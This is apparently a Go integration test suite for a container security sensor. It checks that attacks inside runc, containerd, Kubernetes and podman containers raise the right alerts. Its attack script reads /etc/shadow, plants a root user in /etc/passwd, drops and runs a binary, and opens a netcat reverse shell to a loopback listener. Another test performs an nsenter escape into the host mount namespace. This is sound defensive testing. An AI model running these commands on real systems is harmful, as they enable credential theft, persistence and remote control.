//go:build linux && amd64

package sensor

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/sensor/runctest"
	"github.com/vigilsec/vigil/internal/sensor/runtimetest"
)

// shellListener accepts reverse shells on the host's loopback: each is
// sent one command and exit. It returns the port.
func shellListener(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	t.Cleanup(func() { ln.Close(); wg.Wait() })
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer c.Close()
				fmt.Fprintf(c, "id\nexit\n")
				c.SetReadDeadline(time.Now().Add(10 * time.Second))
				buf := make([]byte, 256)
				for {
					if _, err := c.Read(buf); err != nil {
						return
					}
				}
			}()
		}
	}()
	return ln.Addr().(*net.TCPAddr).Port
}

// attackScript is a container's own command: read /etc/shadow, write below
// /bin, drop a program and run it, and a reverse shell to port; slow ones
// first wait a second.
func attackScript(port int, slow bool) []string {
	script := fmt.Sprintf("cat /etc/shadow >/dev/null; echo x > /bin/evil; echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd; mkdir -p /tmp/d && cp /bin/busybox /tmp/d/b && chmod +x /tmp/d/b && /tmp/d/b true; nc 127.0.0.1 %d -e /bin/sh", port)
	if slow {
		script = "sleep 1; " + script
	}
	return []string{"sh", "-c", script}
}

// attackRun is one container that ran attackScript.
type attackRun struct {
	id      string // the container id events must carry
	pid     int    // its first process on the host
	runtime string // the runtime events must name
	slow    bool
	overlay bool             // the container runs on an overlay root
	image   string           // the image reference events must carry ("" for none)
	digest  string           // and its digest
	pod     *runtimetest.Pod // the container's pod (CRI)
	ctrName string           // and its name there
}

// checkAttacks checks every container's events (events: all the sensor
// emitted meanwhile) and alerts: each event of the container's processes
// carries its id, runtime and image, file paths are the container's, and
// the reverse shell, netcat, write below /bin and drop-and-execute are
// each detected.
func (h *harness) checkAttacks(t *testing.T, runs []attackRun, events []*event.Event) {
	t.Helper()
	for _, r := range runs {
		for _, title := range []string{
			"Reverse Shell - Shell With a Network Socket as Standard Input or Output",
			"Netcat or Socat Executing a Program for a Connection",
			"Password Hash or Sudo Policy File Read by an Unexpected Program",
			"File Written Below a Binary or Library Directory in a Container",
			"Executable Dropped in a Running Container Then Executed",
		} {
			a, err := h.alert(r.id, title, waitFor, nil)
			if err != nil {
				t.Errorf("container %s (slow %v): %v", r.id, r.slow, err)
				continue
			}
			if k := a.Events[len(a.Events)-1].Container; k.Runtime != r.runtime || k.ContainerImage != r.image || k.ContainerImageDigest != r.digest {
				t.Errorf("container %s: alert %q runtime %q image %q %q, want %q %q %q", r.id, title, k.Runtime, k.ContainerImage, k.ContainerImageDigest, r.runtime, r.image, r.digest)
			}
		}
	}
	// Nothing these containers do leaves their mount namespace: the
	// runtime's own first steps, in the host's, raise nothing.
	for _, r := range runs {
		for _, a := range h.alertsOf(r.id) {
			if a.Rule.Title == "Program Run by a Container's Process in the Host's Mount Namespace" {
				t.Errorf("container %s (slow %v): escape alert on %s", r.id, r.slow, event.AppendJSON(nil, a.Events[len(a.Events)-1], false))
			}
		}
	}
	for _, r := range runs {
		failed := t.Failed()
		evs := lineage(events, int64(r.pid))
		execs := map[string]bool{}
		files := map[string]bool{}
		for _, e := range evs {
			k := e.Container
			if e.Proc.HostNamespaces != "net" && !strings.HasPrefix(e.Proc.Name, "runc") {
				// Every test container runs on the host's network; the
				// runtime's own first steps run in the host's namespaces.
				t.Errorf("container %s (slow %v): event %s %s: host namespaces %q, want net", r.id, r.slow, e.EventName, e.Proc.CommandLine, e.Proc.HostNamespaces)
			}
			if k == nil || k.ContainerID != r.id || k.Runtime != r.runtime {
				t.Errorf("container %s (slow %v): event %s attributed to %+v, want %s", r.id, r.slow, event.AppendJSON(nil, e, false), k, r.runtime)
			} else if r.image != "" && (k.ContainerImage != r.image || k.ContainerImageDigest != r.digest || k.Image != r.image || k.ImageDigest != r.digest) {
				t.Errorf("container %s (slow %v): event %s %s: image %q %q, want %q %q", r.id, r.slow, e.EventName, e.Proc.CommandLine, k.ContainerImage, k.ContainerImageDigest, r.image, r.digest)
			} else if p := r.pod; p != nil && (k.K8sNamespace != p.Namespace || k.K8sPodName != p.Name || k.K8sPodUID != p.UID || k.K8sContainerName != r.ctrName || k.Workload != "pods/"+p.Name) {
				t.Errorf("container %s (slow %v): event %s: pod %q/%q uid %q container %q, want %q/%q uid %q container %q",
					r.id, r.slow, e.EventName, k.K8sNamespace, k.K8sPodName, k.K8sPodUID, k.K8sContainerName, p.Namespace, p.Name, p.UID, r.ctrName)
			}
			if e.EventName == "execve" {
				execs[e.Proc.Path] = true
			}
			if e.File != nil {
				files[e.EventName+" "+e.File.Path] = true
			}
		}
		// busybox's sh runs cat, echo, mkdir, cp and chmod itself.
		if !execs["/bin/sh"] || !execs["/tmp/d/b"] || !execs["/bin/nc"] {
			t.Errorf("container %s (slow %v, pid %d): execs %v", r.id, r.slow, r.pid, execs)
		}
		// Paths are the container's, however briefly it lived.
		want := []string{"create /tmp/d/b", "chmod /tmp/d/b", "create /bin/evil", "read /etc/shadow"}
		if r.overlay && !files["create /etc/passwd"] && !files["write /etc/passwd"] {
			// A write of a file of the image: the copy up (overlayfs
			// links the copy into the upper directory, reported as its
			// creation), or the write (a container registered with the
			// file watcher).
			t.Errorf("container %s (slow %v): no create or write of /etc/passwd among %v", r.id, r.slow, files)
		}
		for _, f := range want {
			if !files[f] {
				t.Errorf("container %s (slow %v): no %s among %v", r.id, r.slow, f, files)
			}
		}
		if !failed && t.Failed() {
			for _, e := range evs {
				if e.EventName == "mount" || e.EventName == "umount" {
					continue
				}
				line := fmt.Sprintf("%d %s %s", e.Proc.PID, e.EventName, e.Proc.CommandLine)
				if e.File != nil {
					line += " file=" + e.File.Path
				}
				if e.Network != nil {
					line += fmt.Sprintf(" net=%s:%d", e.Network.DestIP, e.Network.DestPort)
				}
				t.Logf("container %s: %s", r.id, line)
			}
		}
	}
	if t.Failed() {
		t.Log(h.dump())
	}
}

// TestShortLivedContainers runs, 20 times, a runc container started after
// the sensor whose own command is an attack: half exit within tens of
// milliseconds, the others after a second. Every event of every
// container's processes must carry the container's id and runtime (none
// the host's), paths the container's, and the attacks must be detected.
func TestShortLivedContainers(t *testing.T) {
	h := sensorHarness(t)
	port := shellListener(t)
	template := filepath.Join(t.TempDir(), "rootfs")
	runctest.BuildRootfs(t, template)
	stop := h.record()
	var runs []attackRun
	var cs []*runctest.Container
	for i := range 20 {
		id := fmt.Sprintf("%s-%d", runctest.UniqueID(t), i)
		h.watch(id)
		slow := i%2 == 1
		// Laid out by another process, as a runtime would (the sensor
		// does not watch its own process).
		rootfs := filepath.Join(t.TempDir(), "rootfs")
		if out, err := exec.Command("cp", "-a", template, rootfs).CombinedOutput(); err != nil {
			t.Fatalf("cp: %v: %s", err, out)
		}
		c := runctest.Start(t, runctest.Options{ID: id, Args: attackScript(port, slow), Rootfs: rootfs})
		runs = append(runs, attackRun{id: id, pid: c.PID(), runtime: "runc", slow: slow})
		cs = append(cs, c)
		if !slow {
			// The next one starts after it is gone.
			if code := c.Wait(30 * time.Second); code != 0 {
				t.Fatalf("container %s exited %d: %s", id, code, c.Stderr())
			}
		}
	}
	for _, c := range cs {
		if code := c.Wait(30 * time.Second); code != 0 {
			t.Fatalf("container %s exited %d: %s", c.ID, code, c.Stderr())
		}
	}
	h.settle()
	h.checkAttacks(t, runs, stop())
}

// settle waits until the sensor has handled what the kernel reported so
// far.
func (h *harness) settle() {
	time.Sleep(200 * time.Millisecond)
}

// TestContainerdContainers runs attacks in containers of containerd (ctr
// run) started after the sensor, two exiting at once and two after a
// second.
func TestContainerdContainers(t *testing.T) {
	ctrd := runtimetest.StartContainerd(t)
	h := ownHarness(t, runtimeConfig(ctrd, nil))
	port := shellListener(t)
	stop := h.record()
	var runs []attackRun
	var tasks []*runtimetest.Task
	for i := range 4 {
		slow := i%2 == 1
		id := fmt.Sprintf("ctr-%d-%d", time.Now().UnixNano()%1e6, i)
		h.watch(id)
		k := ctrd.Run(t, runtimetest.Options{ID: id, Args: attackScript(port, slow)})
		runs = append(runs, attackRun{id: id, pid: k.PID, runtime: "containerd", slow: slow, overlay: true,
			image: runtimetest.BusyboxRef, digest: ctrd.Images.Busybox.Digest})
		tasks = append(tasks, k)
		if !slow {
			if code := k.Wait(30 * time.Second); code != 0 {
				t.Fatalf("container %s exited %d: %s", id, code, k.Stderr())
			}
		}
	}
	for _, k := range tasks {
		if code := k.Wait(30 * time.Second); code != 0 {
			t.Fatalf("container %s exited %d: %s", k.ID, code, k.Stderr())
		}
	}
	h.settle()
	h.checkAttacks(t, runs, stop())
}

// TestCRIContainers runs attacks in Kubernetes containers through
// containerd's CRI plugin, in pods started after the sensor.
func TestCRIContainers(t *testing.T) {
	ctrd := runtimetest.StartContainerd(t)
	h := ownHarness(t, runtimeConfig(ctrd, nil))
	port := shellListener(t)
	stop := h.record()
	var runs []attackRun
	for i := range 4 {
		slow := i%2 == 1
		pod := ctrd.RunPod(t, runtimetest.PodOptions{NoContainer: true})
		c := pod.StartContainer(t, runtimetest.ContainerOptions{Name: fmt.Sprintf("attack-%d", i), Args: attackScript(port, slow)})
		h.watch(c.ID)
		runs = append(runs, attackRun{id: c.ID, pid: c.PID, runtime: "containerd", slow: slow, overlay: true,
			image: runtimetest.BusyboxRef, digest: ctrd.Images.Busybox.Digest, pod: pod, ctrName: c.Name})
		if code := c.Wait(t, 30*time.Second); code != 0 {
			t.Fatalf("container %s exited %d: %s", c.ID, code, c.Logs())
		}
	}
	h.settle()
	h.checkAttacks(t, runs, stop())
}

// TestPodmanContainers runs attacks in podman containers started after
// the sensor.
func TestPodmanContainers(t *testing.T) {
	pm := runtimetest.StartPodman(t)
	cfg := runtimeConfig(nil, pm)
	cfg.Container.DockerSockets = []string{pm.Service(t)}
	h := ownHarness(t, cfg)
	port := shellListener(t)
	stop := h.record()
	var runs []attackRun
	for i := range 4 {
		slow := i%2 == 1
		k := pm.Run(t, runtimetest.Options{Args: attackScript(port, slow)})
		h.watch(k.ID)
		runs = append(runs, attackRun{id: k.ID, pid: k.PID, runtime: "podman", slow: slow, overlay: true,
			image: runtimetest.BusyboxRef, digest: pm.Images.Busybox.Digest})
		if code := k.Wait(30 * time.Second); code != 0 {
			t.Fatalf("container %s exited %d: %s", k.ID, code, k.Stderr())
		}
	}
	h.settle()
	h.checkAttacks(t, runs, stop())
}

// runtimeConfig is a sensor configuration that asks the test's runtimes
// (either may be nil) for metadata, not the system's.
func runtimeConfig(ctrd *runtimetest.Containerd, pm *runtimetest.Podman) Config {
	var cfg Config
	cfg.Container.CRISockets = []string{}
	cfg.Container.ContainerdSockets = []string{}
	cfg.Container.DockerSockets = []string{}
	cfg.Container.RuncRoots = []string{}
	// The images were imported before the sensor started.
	cfg.Files.ImageLayers = []string{}
	if ctrd != nil {
		cfg.Container.CRISockets = []string{ctrd.Socket}
		cfg.Container.ContainerdSockets = []string{ctrd.Socket}
		cfg.Container.RuncRoots = []string{ctrd.RuncRoot + "/" + runtimetest.CRINamespace, ctrd.RuncRoot + "/" + runtimetest.CtrNamespace}
		cfg.Files.ImageLayers = append(cfg.Files.ImageLayers, ctrd.Root+"/io.containerd.snapshotter.v1.overlayfs/snapshots/*/fs")
	}
	if pm != nil {
		cfg.Files.ImageLayers = append(cfg.Files.ImageLayers, pm.Root+"/overlay/*/diff")
	}
	return cfg
}

// TestNsenterIntoContainer: a host process that enters a container's mount
// and pid namespaces without joining its cgroup (nsenter) is the
// container's.
func TestNsenterIntoContainer(t *testing.T) {
	h := sensorHarness(t)
	c := h.start(t, runctest.Options{})
	nsenter, err := exec.LookPath("nsenter")
	if err != nil {
		t.Fatalf("nsenter (Debian's util-linux) not found: %v", err)
	}
	h.retryOnLoss(t, func(try int) error {
		marker := fmt.Sprintf("vgl-nsenter-%d", try)
		cmd := exec.Command(nsenter, "-t", fmt.Sprint(c.PID()), "-m", "-p", "--", "/bin/busybox", "echo", marker)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("nsenter: %v: %s", err, out)
		}
		e, err := h.event(c.ID, waitFor, "exec of busybox echo "+marker, func(e *event.Event) bool {
			return e.EventName == "execve" && strings.Contains(e.Proc.CommandLine, marker)
		})
		if err != nil {
			return err
		}
		if e.Container.Runtime != "runc" || e.Proc.HostNamespaces != "net" {
			t.Errorf("nsenter'd exec: %s", event.AppendJSON(nil, e, false))
		}
		return nil
	})
}

// TestEscapeToHostMountNamespace: a privileged container's process in the
// host's pid namespace (a hostPID pod with CAP_SYS_ADMIN) joins the host's
// mount namespace through a host process's (nsenter --mount) and runs a
// program there: the event keeps the container, says the process is in
// the host's namespaces, and the escape rule fires.
func TestEscapeToHostMountNamespace(t *testing.T) {
	h := sensorHarness(t)
	c := h.start(t, runctest.Options{HostPID: true, Capabilities: []string{"CAP_SYS_ADMIN", "CAP_SYS_CHROOT", "CAP_SYS_PTRACE"}})
	h.retryOnLoss(t, func(try int) error {
		marker := fmt.Sprintf("vgl-escape-%d", try)
		hostNS := fmt.Sprintf("--mount=/proc/%d/ns/mnt", os.Getpid())
		if out, err := c.Exec("/bin/busybox", "nsenter", hostNS, "--", "/bin/busybox", "echo", marker); err != nil {
			t.Fatalf("nsenter in the container: %v: %s", err, out)
		}
		echo := "/bin/busybox echo " + marker
		e, err := h.event(c.ID, waitFor, "exec of "+echo+" in the host's mount namespace", func(e *event.Event) bool {
			return e.EventName == "execve" && e.Proc.CommandLine == echo
		})
		if err != nil {
			return err
		}
		if e.Proc.HostNamespaces != "mnt,pid,net" || e.Container.Runtime != "runc" {
			t.Errorf("escaped exec: %s", event.AppendJSON(nil, e, false))
		}
		_, err = h.alert(c.ID, "Program Run by a Container's Process in the Host's Mount Namespace", waitFor, func(x *event.Event) bool {
			return x.Proc.CommandLine == echo
		})
		return err
	})
}
